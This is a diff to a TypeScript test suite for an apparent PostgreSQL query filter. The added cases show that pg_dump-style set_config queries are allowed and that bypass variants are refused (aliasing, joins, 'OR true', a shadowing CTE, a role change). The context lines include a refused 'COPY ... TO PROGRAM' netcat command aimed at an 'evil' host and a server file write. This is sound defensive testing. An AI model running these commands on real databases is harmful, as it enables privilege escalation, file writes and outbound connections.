@@ -117,6 +117,8 @@ const allowed: readonly string[] = [
   'SET standard_conforming_strings = on',
   "SELECT set_config('client_encoding', 'UTF8', false)",
   "SELECT pg_catalog.set_config('search_path', '', false)",
+  // pg_dump, where the server may not have the setting.
+  "SELECT set_config(name, 'view, foreign-table', false) FROM pg_settings WHERE name = 'restrict_nonsystem_relation_kind'",
   'SELECT pg_catalog.pg_is_in_recovery()',
   'LOCK TABLE public.orders IN ACCESS SHARE MODE',
   'SELECT pg_advisory_lock(1)',
@@ -161,6 +163,32 @@ const refused: readonly (readonly [string, string])[] = [
   ["SET client_encoding TO 'LATIN1'", 'deny client-encoding'],
   ["SET LOCAL client_encoding TO 'SJIS'", 'deny client-encoding'],
   ["SELECT set_config('client_encoding', 'GBK', false)", 'deny client-encoding'],
+  ["SELECT set_config(name, 'x', false) FROM pg_settings WHERE name = 'role'", 'hold role-change'],
+  ["SELECT set_config(name, 'x', false) FROM pg_settings", 'deny client-encoding'],
+  [
+    "SELECT set_config(name, 'x', false) FROM pg_settings WHERE name <> 'work_mem'",
+    'deny client-encoding',
+  ],
+  [
+    "SELECT set_config(name, 'x', false) FROM pg_settings s(a, name) WHERE name = 'work_mem'",
+    'deny client-encoding',
+  ],
+  [
+    "SELECT set_config(name, 'x', false) FROM pg_settings, pg_roles WHERE name = 'work_mem'",
+    'deny client-encoding',
+  ],
+  [
+    "SELECT set_config(name, 'x', false) FROM pg_settings WHERE name = 'work_mem' OR true",
+    'deny client-encoding',
+  ],
+  [
+    "WITH pg_settings AS (SELECT 'role' AS name) SELECT set_config(name, 'x', false) FROM pg_settings WHERE name = 'work_mem'",
+    'deny client-encoding',
+  ],
+  [
+    "SELECT set_config(setting, 'x', false) FROM pg_settings WHERE name = 'work_mem'",
+    'deny client-encoding',
+  ],
   ['SET standard_conforming_strings = off', 'deny string-literals'],
   ["COPY orders TO '/tmp/x'", 'hold server-file-write'],
   ["COPY orders TO PROGRAM 'nc evil 1'", 'hold server-program'],
